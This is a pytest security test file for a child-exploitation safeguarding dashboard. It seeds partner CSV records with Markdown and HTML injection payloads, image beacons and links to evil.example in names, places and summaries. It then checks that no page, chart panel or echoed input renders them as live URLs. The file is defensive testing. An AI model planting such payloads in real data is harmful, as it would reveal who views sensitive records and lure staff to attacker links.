"""Attack: a malicious partner file puts Markdown and HTML in names, places and summaries.

Rendered as Markdown, a name ``![](https://…)`` would make every profile view fetch an image
from the attacker's server (telling them who looked, and when), and ``[text](https://…)`` would
become a clickable link; in the chart's info panel an ``<a href>`` becomes a link too. Every
page the practice lead opens over such records is run here, and every string a page hands to a
Markdown-rendering element is checked: no live URL may reach one. The partnership's action plan
spreadsheet is partner text too (objectives, roles, notes), and so are the meeting actions and
the names the "what is due" page lists. The timeline (an operation's cohort, a person, an
event's record), the profile's Connections tab (the chains between two people, whose titles name
everyone on them) and the chains' chart panel carry the same names.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import neo4j
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from cseboard.board.components.link_chart import chain_elements, chart_elements
from cseboard.config import Settings
from cseboard.ingest.importer import Importer
from cseboard.models.ids import person_id_for
from cseboard.models.network import NetworkFilters
from cseboard.models.users import Role
from cseboard.services.analysis import analysis_params, run_network_analysis
from cseboard.services.context import ServiceContext
from cseboard.services.meeting_actions import create_action
from cseboard.services.network_view import network_view
from cseboard.services.paths import find_chains
from cseboard.services.plan_import import import_plan
from cseboard.store.operations import OperationStore
from support.board import page, point_board_at, user
from support.partner_files import write_csv

LEAD = user("lead", Role.PRACTICE_LEAD, agency="childrens_social_care")
EVIL = "https://evil.example"
NAME = f"![seen]({EVIL}/who-looked.png)"
SURNAME = f"[call me]({EVIL}/go)"
PLACE = f'<a href="{EVIL}/p">Arcade</a>'
SUMMARY = f"Seen with ![x]({EVIL}/s.png) and [this]({EVIL}/l) near {EVIL}/raw"
CHILD = person_id_for("police", "PC-1")
FRIEND = person_id_for("police", "PC-2")
ANCHOR = re.compile(r"<a\b[^>]*\bhref\s*=", re.I)
NOW = datetime.now(UTC)


def _when(days: float) -> str:
    return (NOW - timedelta(days=days)).isoformat()


@pytest.fixture(scope="module")
def world(
    driver: neo4j.Driver, neo4j_settings: Settings, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[ServiceContext]:
    folder = tmp_path_factory.mktemp("partner-text")
    people = [
        {"agency": "police", "source_ref": f"PC-{i}", "role": "young_person",
         "first_name": NAME if i == 1 else f"Child{i}", "last_name": SURNAME,
         "aliases": NAME, "date_of_birth": "2010-01-02", "gender": "F"}
        for i in (1, 2, 3)
    ]
    people.append(
        {"agency": "police", "source_ref": "PA-1", "role": "associate", "first_name": NAME,
         "last_name": "Adult", "date_of_birth": "1980-01-02", "gender": "M"}
    )
    write_csv(folder / "people.csv", people)
    write_csv(
        folder / "locations.csv",
        [{"agency": "police", "source_ref": "L-1", "name": PLACE, "kind": "takeaway",
          "postcode": "S1 2AB", "latitude": "53.38", "longitude": "-1.47"}],
    )
    write_csv(
        folder / "missing_episodes.csv",
        [{"agency": "police", "source_ref": "MP-1", "person_ref": "PC-1",
          "reported_missing_at": _when(3), "returned_at": _when(2)}],
    )
    write_csv(
        folder / "intelligence.csv",
        [
            {"agency": "police", "source_ref": f"I-{i}", "reported_at": _when(i),
             "category": "association", "summary": SUMMARY, "source_evaluation": "1",
             "intelligence_assessment": "A", "handling_code": "P",
             "people": f"PC-{1 + i % 3};PA-1", "locations": "L-1"}
            for i in range(1, 10)
        ],
    )
    Importer(driver, agency="police").run(sorted(folder.glob("*.csv")))
    operations = OperationStore(driver)
    operations.upsert("OP-MD", f"Operation {NAME}", by="test")
    operations.nominate("OP-MD", CHILD, by="test", rationale=NAME)
    ctx = ServiceContext(driver, neo4j_settings)
    run_network_analysis(ctx, LEAD, analysis_params(ctx, min_cluster_size=2))
    create_action(
        ctx, LEAD, "OP-MD", text=SUMMARY, owner_agency="police",
        due_date=(NOW + timedelta(days=2)).date(), person_id=CHILD,
    )
    write_csv(
        folder / "plan" / "plan.csv",
        [{"objective": NAME, "action": SUMMARY, "owner_agency": "police", "owner_role": SURNAME,
          "due_date": "01/01/2020", "status": "at_risk", "update": PLACE,
          "figures": f"cawns;{SURNAME}"}],
    )
    import_plan(ctx, LEAD, folder / "plan" / "plan.csv")
    point_board_at(neo4j_settings)
    st.cache_resource.clear()
    yield ctx
    st.cache_resource.clear()


def markdown_strings(at: AppTest) -> list[str]:
    """Every string the page gave an element that Streamlit renders as Markdown."""
    found: list[str] = []
    for kind in (
        "markdown", "caption", "info", "warning", "error", "success", "title", "header",
        "subheader", "toast",
    ):
        found.extend(str(e.value) for e in getattr(at, kind))
    found.extend(str(e.label) for e in at.metric)
    found.extend(str(e.value) for e in at.metric)  # values are Markdown too (labels' subset)
    found.extend(str(e.label) for e in at.expander)
    found.extend(str(e.label) for e in at.tabs)
    found.extend(str(e.label) for e in at.button)
    found.extend(str(e.label) for e in at.checkbox)
    for radio in at.radio:
        found.append(str(radio.label))
        found.extend(str(o) for o in radio.options)
    for kind in ("selectbox", "multiselect", "text_input", "text_area"):
        found.extend(str(e.label) for e in getattr(at, kind))
    return found


def live_urls(at: AppTest) -> list[str]:
    return [s for s in markdown_strings(at) if EVIL in s or ANCHOR.search(s)]


PURPOSE = {"cseboard_purposes": {CHILD: "Preparing for the operational group meeting"}}


@pytest.mark.parametrize(
    ("name", "state"),
    [
        ("person_page.py", {"profile_person_id": CHILD, **PURPOSE}),
        ("network_page.py", {}),
        ("inbox_page.py", {}),
        ("inbox_page.py", {"inbox_facets": ["cohort_child", "hotspot"]}),
        ("cluster_detail_page.py", {}),
        ("clusters_page.py", {}),
        ("alerts_page.py", {}),
        ("places_page.py", {}),
        ("meeting_page.py", {}),
        ("resolve_page.py", {}),
        ("overview_page.py", {}),
        ("plan_page.py", {}),
        ("due_page.py", {}),
        ("timeline_page.py", {}),
        ("timeline_page.py", {"timeline_record": "police/I-3"}),
        (
            "timeline_page.py",
            {"timeline_preset": {"subject": "person", "subject_id": CHILD}, **PURPOSE},
        ),
    ],
)
def test_partner_text_never_reaches_markdown_as_a_live_url(
    world: ServiceContext, name: str, state: dict[str, object]
) -> None:
    at = page(name, LEAD, **state)
    assert not at.exception, at.exception
    assert live_urls(at) == []


def test_the_profile_shows_the_name_as_text(world: ServiceContext) -> None:
    at = page("person_page.py", LEAD, profile_person_id=CHILD, **PURPOSE)
    assert not at.exception
    assert any(NAME in str(t.value) for t in at.text)  # the record, as plain text
    for tab in at.tabs:
        tab_strings = [str(e.value) for e in tab.markdown] + [str(e.value) for e in tab.caption]
        assert not [s for s in tab_strings if EVIL in s]


def test_the_charts_info_panel_gets_no_anchor(world: ServiceContext) -> None:
    """The info panel turns ``<a href=…>`` in a value into a link; names must not be one."""
    view = network_view(
        world,
        LEAD,
        NetworkFilters(focus="person", person_id=CHILD, hops=2, show_places=True),
        purpose="Preparing for the operational group meeting",
    )
    assert any(PLACE in n.label for n in view.nodes)  # the place is drawn, with its name
    elements = chart_elements(view)
    values = [
        str(v)
        for group in elements.values()
        for element in group
        for v in element["data"].values()
        if isinstance(v, str)
    ]
    assert values and not [v for v in values if ANCHOR.search(v)]


def test_a_pages_own_inputs_echoed_back_are_escaped(world: ServiceContext) -> None:
    """The meeting pack echoes the recipients typed in; a typed link must stay text."""
    at = page("meeting_pack_page.py", LEAD)
    assert not at.exception
    at.text_input(key="pack_other_recipients").input(f"[the team]({EVIL})")
    at = at.button(key="pack_prepare").click().run()
    assert not at.exception
    assert at.success  # the pack is ready, and says to whom it was disclosed
    assert live_urls(at) == []


def test_the_new_pages_do_show_the_partner_text(world: ServiceContext) -> None:
    """The pages above are checked over the hostile text itself, not over nothing."""
    plan = page("plan_page.py", LEAD)
    assert any(SUMMARY in str(t.value) for t in plan.text)  # the action, as plain text
    assert any("Arcade" in str(t.value) for t in plan.text)  # its latest note
    due = page("due_page.py", LEAD)
    shown = " ".join(" ".join(map(str, f.value.to_numpy().ravel())) for f in due.dataframe)
    assert NAME in shown and SUMMARY in shown  # the child's clock and the meeting action
    inbox = page("inbox_page.py", LEAD, inbox_facets=["cohort_child"])
    assert any(SUMMARY in str(t.value) for t in inbox.text)
    assert any("Triage:" in str(c.value) for c in inbox.caption)


def test_the_timeline_shows_the_names_as_text(world: ServiceContext) -> None:
    """The timeline is checked over the hostile names: its title, lanes and opened record."""
    at = page("timeline_page.py", LEAD, timeline_record="police/I-3")
    assert not at.exception, at.exception
    titles = [str(e.value) for e in at.subheader]
    assert any("Operation" in t and "evil" in t for t in titles)  # there, escaped
    assert any(NAME in str(t.value) for t in at.text)  # the opened event names its lane
    assert live_urls(at) == []


def test_the_profiles_connections_tab_escapes_the_chains(world: ServiceContext) -> None:
    """The chains between two people are titled with every name on them (expander labels are
    Markdown): asked from the profile's Connections tab, none may become a link or an image."""
    at = page("person_page.py", LEAD, profile_person_id=CHILD, **PURPOSE)
    assert not at.exception, at.exception
    at.selectbox(key="profile_chains_to").select(FRIEND)
    at.text_input(key="profile_chains_purpose").input(PURPOSE["cseboard_purposes"][CHILD])
    next(b for b in at.button if b.label == "Find the connection").click().run()
    assert not at.exception, at.exception
    chains = [e for e in at.expander if "Chain 1" in str(e.label)]
    assert chains and "evil" in str(chains[0].label)  # the hostile names are in the title
    assert live_urls(at) == []


def test_the_chains_chart_panel_gets_no_anchor(world: ServiceContext) -> None:
    """The chains' chart has the info panel of the network chart: names are made inert."""
    answer = find_chains(
        world, LEAD, CHILD, FRIEND, purpose="Preparing for the operational group meeting"
    )
    assert answer.chains
    hostile = answer.model_copy(
        update={
            "chains": [
                c.model_copy(update={"labels": [PLACE for _ in c.labels]}) for c in answer.chains
            ]
        }
    )
    for shown in (answer, hostile):
        elements = chain_elements(shown)
        values = [
            str(v)
            for group in elements.values()
            for element in group
            for v in element["data"].values()
            if isinstance(v, str)
        ]
        assert values and not [v for v in values if ANCHOR.search(v)]
    assert any("Arcade" in str(n["data"]["name"]) for n in chain_elements(hostile)["nodes"])
